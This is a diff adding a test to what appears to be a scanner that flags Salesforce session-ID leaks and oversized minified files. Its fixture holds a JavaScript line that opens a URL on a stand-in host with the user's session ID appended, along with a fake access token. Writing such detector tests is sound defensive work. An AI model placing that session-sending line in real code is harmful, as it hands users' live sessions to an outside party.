@@ -246,6 +246,29 @@ def test_billion_laughs_is_never_expanded(tmp_path: Path) -> None:
     assert not [f for f in result.findings if f.rule_id == "SID005"]
 
 
+def test_a_session_in_a_file_skipped_for_a_long_line_still_ends_in_a_verdict(tmp_path: Path) -> None:
+    """SPEC: every retrieval ends in a verdict. A minified script over the line limit is not
+    parsed; each session it names is SID011 (review by hand), where it is, and a token is SID009."""
+    filler = "var a=1;" * 130_000  # 1,040,000 characters on one line
+    sends = "window.open('https://partner.example/x?sid='+sforce.connection.sessionId);"
+    token = "var t='00D000000000001!AQ" + "x" * 90 + "';"
+    files = {f"{SFDX_SOURCE}/staticresources/Grid.js": (filler + sends + token).encode(),
+             f"{SFDX_SOURCE}/classes/Gen.cls": ("public class Gen { String s = '" + "x" * 1_000_001 + "'; "
+                                 "void f() { String sid = UserInfo.getSessionId(); } }").encode(),
+             f"{SFDX_SOURCE}/classes/Quiet.cls": ("public class Quiet { String s = '" + "x" * 1_000_001
+                                                  + "'; }").encode()}
+    root = write_sfdx_package(tmp_path / "pkg", files)
+    result, _ = _scan(root)
+    found = sorted((f.location.path.rpartition("/")[2], f.rule_id, f.location.span.start_col) for f in result.findings)
+    assert found == [("Gen.cls", "SID011", 1_000_069), ("Grid.js", "SID009", 1_040_082),
+                     ("Grid.js", "SID011", 1_040_046)]
+    message = next(f.message for f in result.findings if f.rule_id == "SID011")
+    assert "did not analyse (line 1 is longer than 1,000,000 characters" in message
+    assert {n.path.rpartition("/")[2] for n in result.notifications if n.code == "line-too-long"} \
+        == {"Grid.js", "Gen.cls", "Quiet.cls"}
+    assert "AQxxxx" not in repr(result)  # the token is redacted as everywhere
+
+
 @pytest.mark.parametrize("shape", ALL_DEEP_SHAPES)
 def test_deeply_nested_apex_is_lowered_and_keeps_its_other_findings(shape: str) -> None:
     lowered = lower_job(LoweringJob("classes/Deep.cls", FileKind.APEX_CLASS, deep_apex(shape), ""), ReadLimits())
